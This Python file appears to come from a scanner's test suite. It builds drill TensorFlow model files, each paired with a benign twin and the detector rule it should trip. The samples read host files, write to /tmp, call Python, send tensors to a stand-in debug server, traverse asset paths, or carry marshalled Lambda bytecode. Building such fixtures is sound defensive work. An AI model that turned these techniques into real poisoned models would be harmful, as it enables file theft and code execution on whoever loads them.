"""TensorFlow graphs that read and write files of the host, call Python, or carry bytecode."""

from __future__ import annotations

import base64
import json
import marshal
from collections.abc import Callable
from pathlib import Path

from pratique.drill.attack import Attack, AttackPath
from pratique.drill.tensorflow_writer import constant, function, graph, keras_metadata, node, saved_model

Build = Callable[[Path], None]


def _writes(data: bytes, name: str = "saved_model.pb") -> Build:
    def build(folder: Path) -> None:
        (folder / name).write_bytes(data)

    return build


def _function_graph(*nodes: bytes) -> bytes:
    call = node("call", "PartitionedCall", ("x",), {"f": "serve"})
    return graph(node("x", "Placeholder"), call, functions=(function("serve", *nodes),))


def _lambda_layer(function_value: object, kind: str) -> str:
    config = {"name": "drill", "function": function_value, "function_type": kind, "arguments": {}}
    return json.dumps({"name": "drill", "class_name": "Lambda", "config": config})


def _bytecode() -> str:
    code = compile("lambda x: print('pratique-drill') or x", "<drill>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


_PATH = constant("path", "/etc/hostname")
_PLAIN = saved_model(graph(node("x", "Placeholder"), node("y", "Identity", ("x",))))
_FUNCTION = saved_model(_function_graph(node("y", "Relu", ("x",))))
_DEBUG = node("d", "DebugIdentity", ("x",), {"debug_urls": ["grpc://host.invalid:1"]})

ATTACKS = (
    Attack(
        id="tensorflow-read-file",
        title="A SavedModel whose serving function returns a file of the host",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-host-operator",),
        build=_writes(saved_model(_function_graph(_PATH, node("read", "ReadFile", ("path:output:0",))))),
        twin=_writes(_FUNCTION),
        where="saved_model.pb",
    ),
    Attack(
        id="tensorflow-write-file",
        title="A frozen graph that writes a file of the host",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-host-operator",),
        build=_writes(
            graph(
                constant("to", "/tmp/pratique-drill"),
                constant("text", "pratique-drill"),
                node("w", "WriteFile", ("to", "text")),
            ),
            "frozen.pb",
        ),
        twin=_writes(graph(constant("text", "plain"), node("y", "Identity", ("text",))), "frozen.pb"),
        where="frozen.pb",
    ),
    Attack(
        id="tensorflow-python-function",
        title="A graph that calls a Python function of the process",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-host-operator",),
        build=_writes(saved_model(graph(node("p", "EagerPyFunc", (), {"token": "pyfunc_0"})))),
        twin=_writes(_PLAIN),
        where="saved_model.pb",
    ),
    Attack(
        id="tensorflow-print-to-file",
        title="A print operator whose stream is a file",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-host-operator",),
        build=_writes(
            saved_model(graph(node("p", "PrintV2", ("x",), {"output_stream": "file:///tmp/pratique-drill"})))
        ),
        twin=_writes(saved_model(graph(node("p", "PrintV2", ("x",), {"output_stream": "stderr"})))),
        where="saved_model.pb",
    ),
    Attack(
        id="tensorflow-debug-exfiltration",
        title="A debug operator that sends tensors to a server",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-host-operator",),
        build=_writes(saved_model(graph(node("x", "Placeholder"), _DEBUG))),
        twin=_writes(_PLAIN),
        where="saved_model.pb",
    ),
    Attack(
        id="tensorflow-fixed-save",
        title="A saver that writes to a fixed absolute path",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-host-operator",),
        build=_writes(saved_model(graph(constant("to", "/tmp/pratique-drill"), node("s", "SaveV2", ("to", "names"))))),
        twin=_writes(saved_model(graph(constant("to", "model"), node("s", "SaveV2", ("to", "names"))))),
        where="saved_model.pb",
    ),
    Attack(
        id="tensorflow-dataset-file",
        title="A serving graph that reads its input from a text file of the host",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-file-reader",),
        build=_writes(saved_model(_function_graph(_PATH, node("t", "TextLineDataset", ("path:output:0",))))),
        twin=_writes(_FUNCTION),
        refused=False,
        where="saved_model.pb",
    ),
    Attack(
        id="tensorflow-custom-operator",
        title="An operator that needs a foreign native library",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-custom-operator",),
        build=_writes(saved_model(graph(node("z", "DrillAccelerate")))),
        twin=_writes(_PLAIN),
        refused=False,
        where="saved_model.pb",
    ),
    Attack(
        id="tensorflow-asset-traversal",
        title="An asset that lies outside of the model's folder",
        path=AttackPath.REUPLOAD,
        trips=("loading/tensorflow-asset-path",),
        build=_writes(saved_model(graph(node("x", "Placeholder")), ("../../../../etc/hostname",))),
        twin=_writes(saved_model(graph(node("x", "Placeholder")), ("vocabulary.txt",))),
        where="saved_model.pb",
    ),
    Attack(
        id="tensorflow-keras-lambda",
        title="A Lambda layer's bytecode in a SavedModel's Keras metadata",
        path=AttackPath.MODEL,
        trips=("loading/tensorflow-keras-lambda",),
        build=_writes(keras_metadata(_lambda_layer([_bytecode(), None, None], "lambda")), "keras_metadata.pb"),
        twin=_writes(keras_metadata(_lambda_layer("relu", "function")), "keras_metadata.pb"),
        where="keras_metadata.pb",
    ),
)
